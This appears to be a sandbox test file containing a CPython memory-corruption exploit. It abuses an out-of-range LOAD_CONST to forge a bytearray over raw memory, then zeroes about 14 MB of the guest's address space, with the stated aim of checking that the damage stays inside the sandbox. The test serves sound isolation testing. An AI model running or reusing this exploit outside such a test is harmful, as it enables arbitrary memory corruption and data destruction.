# expect: ends crash, wall-time, memory
# needs: layout
# wall: 3
# why: overwriting all of the guest's memory must end only the sandbox
import opcode, struct
op = opcode.opmap
keep = []
def load(address):
    f = lambda: 1
    code = f.__code__.replace(co_consts=(None,))
    items = id(code.co_consts) + 16
    index = ((address - items) // 4) & 0xFFFFFFFF
    text = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        text += [op["EXTENDED_ARG"], (index >> shift) & 255]
    code = code.replace(co_code=bytes(text + [op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0]))
    f.__code__ = code
    keep.append(f)
    return f()
size = 14 << 20
fake = struct.pack("<IIIIIIII", 1 << 30, id(bytearray), size, size + 1, 16, 16, 0, 0)
slot = struct.pack("<I", id(fake) + 16) + b"\0\0\0\0"
whole = load(id(slot) + 16)
zeros = bytes(1 << 16)
for address in range(65536, size - 65536, 65536):
    whole[address:address + 65536] = zeros
